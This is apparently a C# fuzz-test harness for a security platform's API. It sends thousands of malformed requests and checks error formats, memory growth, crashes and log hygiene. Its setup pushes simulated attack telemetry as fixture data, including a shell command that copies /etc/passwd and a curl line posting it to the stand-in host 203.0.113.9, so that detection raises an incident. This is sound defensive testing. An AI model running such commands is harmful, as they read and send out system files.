using System.Collections.Concurrent;
using System.Diagnostics;
using System.Globalization;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using Platform.Contracts;
using Platform.Tests.Infrastructure;
using Platform.Tests.Webhooks;
using Xunit.Abstractions;

namespace Platform.Tests.Hardening;

public enum FuzzStore
{
    Sqlite,
    Postgres,
}

/// <summary>
/// The fuzz run: starts the api (the tests' build, its own process, on a Unix socket) on a store, makes real
/// resources (agents, rules, an alert, an incident, webhooks) so requests reach the handlers, then sends the
/// malformed requests of <see cref="FuzzCases"/> and checks:
/// <list type="bullet">
/// <item>no answer is 5xx, none times out, no connection breaks;</item>
/// <item>every 4xx is an application/problem+json document with status, title and type, naming no .NET type;</item>
/// <item>the process is alive at the end, has not been restarted, and its resident memory (VmRSS) grew by at most
/// 20 % from where the warm-up left it (the higher of its readings after the first two passes);</item>
/// <item>normal requests still work after (an agent pushes an alert, reads its policy; people list and read);</item>
/// <item>its log (stdout and stderr, at the api's own default levels, so what a deployment would write) holds no
/// stack trace, no secret and no raw control character.</item>
/// </list>
/// The malformed list is sent three times. "Start" for memory is after a warm-up of every operation's valid request
/// (twice) and the first two passes of the list: by then the JIT has compiled every path the list takes, and Kestrel,
/// the connection pools and the GC have sized their heaps and buffers for its largest bodies. The same list again
/// must then not grow the process by more than 20 %: what that catches is growth with volume (leaks, caches keyed
/// by attacker input, expansion that is kept), not first-use costs. (Measured against a start taken after one
/// request of each kind instead, a healthy run grew by up to 19 %, and after one pass of the list up to 18 % on
/// PostgreSQL: GC heap sizing, not leaks.) Every pass is judged; a request that fails in several is reported once.
/// The request list is fixed by the seed and the spec (ids of the resources made for the run are filled in).
/// A crash is recorded against the requests in flight and the api is started again on the same data, so one run
/// reports everything that remains; the test fails anyway.
/// </summary>
[System.Runtime.Versioning.SupportedOSPlatform("linux")]
public sealed class FuzzRun : IAsyncDisposable
{
    public const int Seed = 20261204;
    public const int MinimumRequests = 5_000;
    private const int Parallelism = 4;
    private static readonly TimeSpan RequestTimeout = TimeSpan.FromSeconds(30);
    private static readonly Regex DotNetType = new(@"\b(System|Microsoft|Platform)\.[A-Z][A-Za-z]+|\.NET\b", RegexOptions.Compiled);

    private readonly FuzzStore _store;
    private readonly ITestOutputHelper _output;
    private readonly string _data = Directory.CreateTempSubdirectory("api-fuzz-").FullName;
    private readonly string _admin = "plt_fuzz-admin-" + Guid.NewGuid().ToString("N");
    private readonly ApiLog _log = new();
    private readonly Dictionary<string, string?> _settings;
    private readonly ConcurrentDictionary<string, byte> _secrets = new(StringComparer.Ordinal);
    private readonly ConcurrentDictionary<(FuzzRequest, string), Failure> _failures = new(); // the same request failing in both passes counts once
    private readonly List<string> _crashes = [];
    private readonly SemaphoreSlim _restart = new(1, 1);
    private readonly ConcurrentDictionary<FuzzRequest, byte> _inFlight = new(ReferenceEqualityComparer.Instance);
    private ApiProcess? _api;
    private HttpClient? _http;
    private WebhookReceiver? _receiver;

    private sealed record Failure(string Operation, string Kind, string Problem, int Status, string Body);

    private FuzzRun(FuzzStore store, ITestOutputHelper output)
    {
        _store = store;
        _output = output;
        _settings = new Dictionary<string, string?>
        {
            ["Platform__Webhooks__AllowedNetworks__0"] = "127.0.0.0/8",
            ["Logging__LogLevel__Default"] = null, // the api's own defaults: what a deployment logs
        };
        if (store == FuzzStore.Postgres)
        {
            _settings["Platform__Storage__Provider"] = "Postgres";
            _settings["Platform__Storage__ConnectionString"] = PostgresCluster.CreateDatabase();
        }

        _secrets[_admin] = 0;
    }

    public static async Task RunAsync(FuzzStore store, ITestOutputHelper output)
    {
        await using var run = new FuzzRun(store, output);
        await run.RunAsync();
    }

    private async Task RunAsync()
    {
        var setup = Stopwatch.StartNew();
        await StartAsync();
        var world = await MakeWorldAsync();
        var spec = FuzzSpec.Load();
        var valid = FuzzCases.Valid(spec, world);
        var malformed = FuzzCases.Malformed(spec, world, Seed);
        var setupTime = setup.Elapsed;

        // Warm-up: every valid request twice, then the whole malformed list twice (judged like the measured pass).
        var warmup = Stopwatch.StartNew();
        var validStatuses = new Dictionary<string, int>();
        for (var round = 0; round < 2; round++)
        {
            foreach (var request in valid)
                validStatuses[request.Operation] = (await SendAsync(request, check: true)).Status;
        }

        // The malformed list twice: the server GC sizes its heaps over the first passes (by up to a fifth of the RSS
        // on PostgreSQL, with its connection pool's buffers), so "start" is where a healthy api has settled: the
        // highest RSS read after either pass. One reading alone can fall just after the GC gave memory back (393 MiB
        // once, where the same run reads 480-490 MiB after each pass), and the next pass takes it again. A leak still
        // shows: it makes the third pass end higher than the two before it.
        var rssStart = 0L;
        for (var round = 0; round < 2; round++)
        {
            await SendAllAsync(malformed);
            await RestartIfDeadAsync(_api!, "the warm-up");
            rssStart = Math.Max(rssStart, _api!.ResidentKilobytes());
        }
        warmup.Stop();
        var pidStart = _api!.Pid;

        var pass = Stopwatch.StartNew();
        var statuses = await SendAllAsync(malformed);
        pass.Stop();
        await RestartIfDeadAsync(_api, "the malformed pass");

        var alive = !_api.HasExited && _api.Pid == pidStart;
        var rssEnd = alive ? _api.ResidentKilobytes() : 0;
        var after = await StillWorksAsync(world);
        await _api.StopAsync();
        var logFindings = await CheckLogAsync();

        var report = new StringBuilder();
        report.AppendLine(CultureInfo.InvariantCulture, $"Fuzz run on {_store}: {malformed.Count} malformed requests over {spec.Operations.Count} operations (seed {Seed}), parallelism {Parallelism}.");
        report.AppendLine(CultureInfo.InvariantCulture, $"Time: setup {setupTime.TotalSeconds:F1} s, warm-up {warmup.Elapsed.TotalSeconds:F1} s ({valid.Count * 2} valid requests and the malformed list twice), measured malformed pass {pass.Elapsed.TotalSeconds:F1} s.");
        report.AppendLine(CultureInfo.InvariantCulture, $"Statuses: {string.Join(", ", statuses.OrderBy(s => s.Key).Select(s => $"{s.Key}: {s.Value}"))}.");
        report.AppendLine(CultureInfo.InvariantCulture, $"RSS: {rssStart / 1024.0:F0} MiB at the start, {rssEnd / 1024.0:F0} MiB at the end ({(alive ? (rssEnd - rssStart) * 100.0 / rssStart : double.NaN):+0;-0} %).");
        report.AppendLine("Valid requests during warm-up: " + string.Join(", ", validStatuses.Where(s => s.Value >= 400).Select(s => $"{s.Key} {s.Value}")) + " (others 2xx/3xx).");

        var problems = new List<string>();
        if (malformed.Count < MinimumRequests)
            problems.Add($"only {malformed.Count} malformed requests were made (at least {MinimumRequests} are wanted)");
        var untouched = spec.Operations.Select(o => o.OperationId).Except(malformed.Select(r => r.Operation)).ToList();
        if (untouched.Count > 0)
            problems.Add("operations without malformed requests: " + string.Join(", ", untouched));
        if (_crashes.Count > 0)
            problems.Add($"the api process died {_crashes.Count} time(s) and was started again: {string.Join("; ", _crashes)}");
        else if (!alive)
            problems.Add("the api process is not alive at the end");
        if (alive && rssEnd > rssStart * 1.2)
            problems.Add($"resident memory grew by more than 20 %: {rssStart} KiB -> {rssEnd} KiB");
        problems.AddRange(after);
        problems.AddRange(logFindings);

        var failures = _failures.Values.ToList();
        if (failures.Count > 0)
            problems.Add($"{failures.Count} answers broke the rules:\n" + Grouped(failures));

        var text = report + (problems.Count == 0 ? "No failures.\n" : "FAILURES:\n- " + string.Join("\n- ", problems) + "\n");
        var resultDirectory = Path.Combine(Repository.Root, "TestResults");
        Directory.CreateDirectory(resultDirectory);
        await File.WriteAllTextAsync(Path.Combine(resultDirectory, $"fuzz-{_store.ToString().ToLowerInvariant()}.txt"), text);
        _output.WriteLine(text);
        Assert.True(problems.Count == 0, text);
    }

    // ---- The api and the resources the requests use.
    private async Task StartAsync()
    {
        var configuration = new DirectoryInfo(AppContext.BaseDirectory).Parent!.Name; // tests/bin/<configuration>/net10.0/
        _api = await ApiProcess.StartAsync(_data, _admin, configuration, _settings, _log);
        _http?.Dispose();
        _http = new HttpClient(ApiProcess.Handler(_api.SocketPath)) { BaseAddress = new Uri("http://api"), Timeout = Timeout.InfiniteTimeSpan };
    }

    private async Task<FuzzWorld> MakeWorldAsync()
    {
        var admin = new PlatformClient(_api!.Http(_admin));
        PlatformClient As(string secret) => new(_api.Http(secret));

        var victim = Keep(await admin.CreateTokenAsync(new TokenCreate { Name = "fuzz-victim", Role = Role.Analyst }));
        var enrollment = Keep(await admin.CreateEnrollmentTokenAsync(new EnrollmentTokenCreate { Name = "fuzz", MaxUses = 100_000 }));
        var victimEnrollment = Keep(await admin.CreateEnrollmentTokenAsync(new EnrollmentTokenCreate { Name = "fuzz-victim" }));
        var agent = await As(enrollment.Secret).EnrollAgentAsync(new AgentEnroll { Hostname = "fuzz-web-01", Os = "linux", AgentVersion = "1.0.0", Labels = new Dictionary<string, string> { ["role"] = "app" } });
        var other = await As(enrollment.Secret).EnrollAgentAsync(new AgentEnroll { Hostname = "fuzz-other", Os = "linux", AgentVersion = "1.0.0", Labels = new Dictionary<string, string>() });
        var retired = await As(enrollment.Secret).EnrollAgentAsync(new AgentEnroll { Hostname = "fuzz-retired", Os = "linux", AgentVersion = "1.0.0", Labels = new Dictionary<string, string>() });
        _secrets[agent.Secret] = 0;
        _secrets[other.Secret] = 0;
        _secrets[retired.Secret] = 0;
        var rule = await admin.CreateFimRuleAsync(FimRules.AppConfig("fuzz-app-config"));
        var victimRule = await admin.CreateFimRuleAsync(FimRules.PrivateKey("fuzz-victim"));

        // Webhooks: one to a receiver on loopback (deliveries succeed, so there is a delivery to redeliver), one disabled to delete.
        _receiver = await WebhookReceiver.StartAsync();
        var webhookSecret = "whsec-fuzz-" + Guid.NewGuid().ToString("N");
        _secrets[webhookSecret] = 0;
        var webhook = Keep(await admin.CreateWebhookAsync(new WebhookSpec { Url = _receiver.Url(), Events = [WebhookEventType.Incident_created, WebhookEventType.Incident_updated], Secret = webhookSecret,
            SignatureScheme = WebhookSignatureScheme.PlatformV1 })); // the scheme that takes a secret this recognisable
        var victimWebhook = Keep(await admin.CreateWebhookAsync(new WebhookSpec { Url = "http://127.0.0.1:9/victim", Events = [WebhookEventType.Incident_created], Enabled = false }));

        // An alert, and an incident from the seed scenario's steps (detection runs in the api as data arrives).
        var agentClient = As(agent.Secret);
        var now = DateTimeOffset.UtcNow.AddMinutes(-5);
        await agentClient.PushFimAlertsAsync(new FimAlertBatch
        {
            Alerts =
            [
                new FimAlertReport
                {
                    Id = "fuzz-1", Time = now, RuleId = rule.Id, RuleVersion = rule.Version, Path = "/srv/app/application.cfg", Action = FimOperation.Write, Effect = FimAlertEffect.Alerted,
                    Attribution = FimAttribution.Available, Process = new FimProcess { Pid = 5121, Name = "vi", Executable = "/usr/bin/vi" },
                },
            ],
        }, agent.Agent.Id);
        var alert = (await admin.ListFimAlertsAsync(agentId: agent.Agent.Id)).Items.First();
        var container = new ContainerRef { Id = "7f9c2ba4e88f", Name = "struts2-web", Image = "struts2-showcase:2.3.12" };
        TelemetryEvent[] steps =
        [
            new ProcessStartEvent { Id = "s1", Time = now, Container = container, ProcessName = "sh", Pid = 4230, Ppid = 4101, ParentProcessName = "java", Executable = "/bin/sh", Args = ["sh", "-c", "cp /etc/passwd /tmp/p"], User = "app", Uid = 1000 },
            new ProcessStartEvent { Id = "s2", Time = now.AddMilliseconds(100), Container = container, ProcessName = "cp", Pid = 4231, Ppid = 4230, ParentProcessName = "sh", Executable = "/bin/cp", Args = ["cp", "/etc/passwd", "/tmp/p"], User = "app", Uid = 1000 },
            new FileAccessEvent { Id = "s3", Time = now.AddMilliseconds(110), Container = container, ProcessName = "cp", Pid = 4231, Path = "/etc/passwd", Operation = FimOperation.Read },
            new ProcessStartEvent { Id = "s4", Time = now.AddMilliseconds(300), Container = container, ProcessName = "curl", Pid = 4232, Ppid = 4230, ParentProcessName = "sh", Executable = "/usr/bin/curl", Args = ["curl", "-d", "@/tmp/p", "http://203.0.113.9/"], User = "app", Uid = 1000 },
            new NetworkConnectEvent { Id = "s5", Time = now.AddMilliseconds(320), Container = container, ProcessName = "curl", Pid = 4232, Protocol = NetworkProtocol.Tcp, RemoteAddress = "203.0.113.9", RemotePort = 80 },
        ];
        await agentClient.PushTelemetryAsync(new TelemetryBatch { Id = "fuzz-b-1", Sequence = 1, Events = steps }, agent.Agent.Id);
        var incident = await UntilAsync(async () => (await admin.ListIncidentsAsync(agentId: agent.Agent.Id)).Items.FirstOrDefault(), "detection to raise an incident from the pushed events");
        var delivery = await UntilAsync(async () => (await admin.ListWebhookDeliveriesAsync(webhook.Webhook.Id)).Items.FirstOrDefault(), "the incident's webhook delivery");
        var cursor = (await admin.ListAuditEntriesAsync(limit: 1)).NextCursor ?? throw new InvalidOperationException("The audit log has one page only.");

        var planted = "plt_" + Convert.ToHexString(Guid.NewGuid().ToByteArray()).ToLowerInvariant() + "planted";
        _secrets[planted] = 0;
        return new FuzzWorld(
            _admin, agent.Agent.Id, agent.Secret, other.Agent.Id, other.Secret, retired.Agent.Id, enrollment.Secret, victim.Token.Id, victimEnrollment.EnrollmentToken.Id,
            rule.Id, rule.Version, victimRule.Id, alert.Id, incident.Id, webhook.Webhook.Id, victimWebhook.Webhook.Id, delivery.Id, container.Id, cursor, planted);
    }

    private TokenCreated Keep(TokenCreated created) => Keep(created, created.Secret);

    private EnrollmentTokenCreated Keep(EnrollmentTokenCreated created) => Keep(created, created.Secret);

    private WebhookCreated Keep(WebhookCreated created) => Keep(created, created.Secret);

    private T Keep<T>(T created, string secret)
    {
        _secrets[secret] = 0;
        return created;
    }

    /// <summary>Polls until the api has done what runs in its background (a deadline, not a sleep: it returns as soon as it is there).</summary>
    private static async Task<T> UntilAsync<T>(Func<Task<T?>> probe, string what)
    {
        var deadline = Stopwatch.StartNew();
        while (true)
        {
            if (await probe() is { } found)
                return found;
            if (deadline.Elapsed > TimeSpan.FromSeconds(60))
                throw new TimeoutException($"Waited a minute for {what}.");
            await Task.Delay(50);
        }
    }

    // ---- Sending and judging.
    private async Task<SortedDictionary<int, int>> SendAllAsync(IReadOnlyList<FuzzRequest> requests)
    {
        var statuses = new ConcurrentDictionary<int, int>();
        await Parallel.ForEachAsync(requests, new ParallelOptions { MaxDegreeOfParallelism = Parallelism }, async (request, _) =>
        {
            var (status, _) = await SendAsync(request, check: true);
            statuses.AddOrUpdate(status, 1, (_, n) => n + 1);
        });
        return new SortedDictionary<int, int>(statuses);
    }

    private async Task<(int Status, string Body)> SendAsync(FuzzRequest request, bool check)
    {
        using var message = new HttpRequestMessage(new HttpMethod(request.Method), request.Target);

        // Large bodies wait for the api's go-ahead, so a 413 is read as an answer (not as a connection it closed mid-upload).
        message.Headers.ExpectContinue = request.Body is { Length: > 256 * 1024 };
        foreach (var (name, value) in request.Headers)
            message.Headers.TryAddWithoutValidation(name, value);
        if (request.Body is not null)
        {
            message.Content = new ByteArrayContent(request.Body);
            foreach (var (name, value) in request.ContentHeaders)
                message.Content.Headers.TryAddWithoutValidation(name, value);
        }

        var api = _api!;
        using var timeout = new CancellationTokenSource(RequestTimeout);
        _inFlight[request] = 0;
        try
        {
            using var response = await _http!.SendAsync(message, timeout.Token);
            var bytes = await response.Content.ReadAsByteArrayAsync(timeout.Token);
            var body = Encoding.UTF8.GetString(bytes);
            var status = (int)response.StatusCode;
            if (check)
                Judge(request, response, status, body);
            return (status, body);
        }
        catch (OperationCanceledException) when (timeout.IsCancellationRequested)
        {
            _failures.TryAdd((request, "timeout"), new Failure(request.Operation, request.Kind, $"no answer within {RequestTimeout.TotalSeconds:F0} s", 0, ""));
            return (0, "");
        }
        catch (HttpRequestException ex)
        {
            _failures.TryAdd((request, "connection"), new Failure(request.Operation, request.Kind, "connection failed: " + ex.Message, 0, ""));
            var inFlight = string.Join(", ", _inFlight.Keys.Select(r => $"{r.Operation} {r.Kind}").Order());
            await RestartIfDeadAsync(api, "in flight: " + inFlight);
            return (0, "");
        }
        finally
        {
            _inFlight.TryRemove(request, out _);
        }
    }

    private void Judge(FuzzRequest request, HttpResponseMessage response, int status, string body)
    {
        void Fail(string problem) => _failures.TryAdd((request, problem), new Failure(request.Operation, request.Kind, problem, status, body));

        if (status >= 500)
        {
            Fail("5xx");
            return;
        }

        if (status is >= 200 and < 300 && response.Content.Headers.ContentType?.MediaType == "application/json")
        {
            // Secrets the run made by accident (a token or an enrollment accepted although malformed) must not be logged either.
            foreach (Match m in Regex.Matches(body, "\"secret\"\\s*:\\s*\"([^\"]+)\""))
                _secrets[m.Groups[1].Value] = 0;
        }

        if (status < 400)
            return;

        // Kestrel refuses a path holding an encoded NUL before any application code runs (an empty 400, which no
        // middleware can turn into a problem): that answer is the server's, and acceptable.
        if (status == 400 && body.Length == 0 && request.Target.Split('?')[0].Contains("%00", StringComparison.Ordinal))
            return;
        if (response.Content.Headers.ContentType?.MediaType != "application/problem+json")
        {
            Fail($"4xx as {response.Content.Headers.ContentType?.ToString() ?? "no content type"}, not application/problem+json");
            return;
        }

        try
        {
            using var document = JsonDocument.Parse(body);
            var root = document.RootElement;
            if (root.ValueKind != JsonValueKind.Object
                || !root.TryGetProperty("status", out var s) || s.ValueKind != JsonValueKind.Number || s.GetInt32() != status
                || !root.TryGetProperty("title", out var t) || t.ValueKind != JsonValueKind.String || string.IsNullOrWhiteSpace(t.GetString())
                || !root.TryGetProperty("type", out var y) || y.ValueKind != JsonValueKind.String || string.IsNullOrWhiteSpace(y.GetString()))
                Fail("problem without a matching status, a title or a type");
        }
        catch (JsonException)
        {
            Fail("problem+json that does not parse");
            return;
        }

        if (DotNetType.Match(body).Success)
            Fail("problem names a .NET type");
    }

    private async Task RestartIfDeadAsync(ApiProcess api, string when)
    {
        await _restart.WaitAsync();
        try
        {
            if (!ReferenceEquals(api, _api))
                return; // restarted already
            if (!api.HasExited)
            {
                // A broken connection from a live api is recorded (above) and the run goes on; a dying one (a stack
                // overflow takes a while to abort) is waited for, and one that no longer answers is ended.
                if (await AnswersAsync())
                    return;
                using var patience = new CancellationTokenSource(TimeSpan.FromSeconds(30));
                try
                {
                    await api.WaitForExitAsync(patience.Token);
                }
                catch (OperationCanceledException)
                {
                    lock (_crashes)
                        _crashes.Add($"stopped answering ({when}); killed");
                    await api.DisposeAsync();
                    await StartAsync();
                    return;
                }
            }

            lock (_crashes)
                _crashes.Add($"exit code {api.ExitCode} ({when})");
            await api.DisposeAsync();
            await StartAsync();
        }
        finally
        {
            _restart.Release();
        }
    }

    private async Task<bool> AnswersAsync()
    {
        using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(10));
        try
        {
            using var ready = await _http!.GetAsync("/api/v1/health/ready", timeout.Token);
            return ready.IsSuccessStatusCode;
        }
        catch (Exception ex) when (ex is HttpRequestException or OperationCanceledException)
        {
            return false;
        }
    }

    /// <summary>After the run: the normal things agents and people do still work (one bad request broke nothing for others).</summary>
    private async Task<List<string>> StillWorksAsync(FuzzWorld world)
    {
        var problems = new List<string>();
        if (_api!.HasExited)
            return ["no normal request could be tried: the api is not running"];
        var admin = new PlatformClient(_api.Http(_admin));
        var agent = new PlatformClient(_api.Http(world.AgentSecret));
        async Task Try(string what, Func<Task> call)
        {
            try
            {
                await call();
            }
            catch (Exception ex)
            {
                problems.Add($"after the run, {what} failed: {Shorten(ex is PlatformApiException<ProblemDetails> { Result: { } problem } ? $"{problem.Status} {problem.Detail} {string.Join("; ", (problem.Errors ?? new Dictionary<string, IReadOnlyList<string>>()).Select(e => $"{e.Key}: {string.Join(" ", e.Value)}"))}" : ex.Message)}");
            }
        }

        await Try("getReadiness", () => _http!.GetStringAsync("/api/v1/health/ready"));
        await Try("listAgents", () => admin.ListAgentsAsync());
        await Try("getFimRule", () => admin.GetFimRuleAsync(world.RuleId));
        await Try("listIncidents", () => admin.ListIncidentsAsync());
        await Try("getEffectiveFimPolicy (agent)", () => agent.GetEffectiveFimPolicyAsync(world.AgentId));
        // Against the world as the run left it, put back where valid requests may have moved it: the agent's labels (the
        // rule's scope) replaced with others, the rule's versions restored (each restore a version of its own).
        await Try("replaceAgentLabels", () => admin.ReplaceAgentLabelsAsync(new AgentLabelsReplace { Labels = new Dictionary<string, string> { ["role"] = "app" } }, world.AgentId));
        await Try("pushFimAlerts (agent)", async () => await agent.PushFimAlertsAsync(new FimAlertBatch
        {
            Alerts =
            [
                new FimAlertReport
                {
                    Id = "fuzz-after", Time = DateTimeOffset.UtcNow.AddMinutes(-1), RuleId = world.RuleId, RuleVersion = (await admin.GetFimRuleAsync(world.RuleId)).Version, Path = "/srv/app/application.cfg",
                    Action = FimOperation.Read, Effect = FimAlertEffect.Alerted, Attribution = FimAttribution.Available, Process = new FimProcess { Pid = 7, Name = "cat", Executable = "/usr/bin/cat" },
                },
            ],
        }, world.AgentId));
        await Try("getPciReport", () => admin.GetPciReportAsync(world.AgentId));
        return problems;
    }

    /// <summary>The log of every process of the run: no stack trace, no secret, no raw control character.</summary>
    private async Task<List<string>> CheckLogAsync()
    {
        var streams = await _log.ReadAsync(drain: true);
        var text = string.Join("\n", streams.Select(s => Encoding.UTF8.GetString(s)));
        await File.WriteAllTextAsync(Path.Combine(Repository.Root, "TestResults", $"fuzz-{_store.ToString().ToLowerInvariant()}.log"), text);
        var findings = new List<string>();
        var lines = text.Split('\n');
        void Find(string what, IEnumerable<string> hits)
        {
            var list = hits.ToList();
            if (list.Count > 0)
                findings.Add($"the log has {what} ({list.Count} lines), e.g.: " + string.Join(" | ", list.Take(3).Select(Shorten)));
        }

        Find("stack trace frames", lines.Where(l => Regex.IsMatch(l, @"^\s+at \S")));
        Find("\"Exception:\"", lines.Where(l => l.Contains("Exception:", StringComparison.Ordinal)));
        foreach (var secret in _secrets.Keys)
        {
            var label = secret == _admin ? "the admin token" : secret.EndsWith("planted", StringComparison.Ordinal) ? "the planted access_token value" : "a secret made in the run";
            Find(label, lines.Where(l => l.Contains(secret, StringComparison.Ordinal)));
        }

        Find("raw control characters (CR, ESC, NUL, other C0/C1 or DEL)", lines.Where(l => l.Any(c => (c < ' ' && c != '\t') || c == '\u007f' || c is >= '\u0080' and <= '\u009f')));
        Find($"a line forged by a CR/LF from a request (starting with {FuzzCases.Forged})", lines.Where(l => l.TrimStart().StartsWith(FuzzCases.Forged, StringComparison.Ordinal)));
        _output.WriteLine($"Log: {text.Length} characters, {lines.Length} lines.");
        return findings;
    }

    // ---- The report.
    /// <summary>A kind without the body field it was applied to (kept for parameters and headers): "body.alerts.[].time.time-3" is "body.time".</summary>
    private static string KindClass(string kind)
    {
        var parts = kind.Split('.');
        if (parts.Length == 1)
            return kind;
        var last = Regex.Replace(parts[^1], @"^(missing-required|key-case|key-upper|key-trailing-space|duplicate-key)-.*$|-\d+$", m => m.Groups[1].Success ? m.Groups[1].Value : "");
        return parts[0] is "query" or "path" or "header" && parts.Length > 2 ? $"{parts[0]}.{parts[1]}.{last}" : $"{parts[0]}.{last}";
    }

    private static string Grouped(List<Failure> failures)
    {
        var text = new StringBuilder();
        text.AppendLine("By kind (count: operations):");
        foreach (var group in failures.GroupBy(f => (KindClass(f.Kind), f.Problem.StartsWith("4xx as", StringComparison.Ordinal) ? "4xx not problem+json" : f.Problem)).OrderByDescending(g => g.Count()))
            text.AppendLine(CultureInfo.InvariantCulture, $"  {group.Key.Item1} [{Shorten(group.Key.Item2)}]: {group.Count()}: {string.Join(", ", group.Select(f => f.Operation).Distinct().Order())}");
        text.AppendLine("By operation and kind (count, statuses, one example):");
        foreach (var group in failures.GroupBy(f => (f.Operation, KindClass(f.Kind))).OrderBy(g => g.Key.Operation).ThenBy(g => g.Key.Item2))
        {
            var first = group.First();
            var statuses = string.Join("/", group.Select(f => f.Status).Distinct().Order());
            text.AppendLine(CultureInfo.InvariantCulture, $"  {group.Key.Operation} {group.Key.Item2} x{group.Count()} [{statuses}] {first.Kind}: {first.Problem}: {Shorten(first.Body)}");
        }

        return text.ToString();
    }

    private static string Shorten(string text)
    {
        var flat = Regex.Replace(text, @"[\x00-\x1f\x7f]", m => $"\\x{(int)m.Value[0]:x2}");
        return flat.Length <= 200 ? flat : flat[..200] + "…";
    }

    public async ValueTask DisposeAsync()
    {
        _http?.Dispose();
        if (_api is not null)
            await _api.DisposeAsync();
        if (_receiver is not null)
            await _receiver.DisposeAsync();
        Directory.Delete(_data, recursive: true);
    }
}
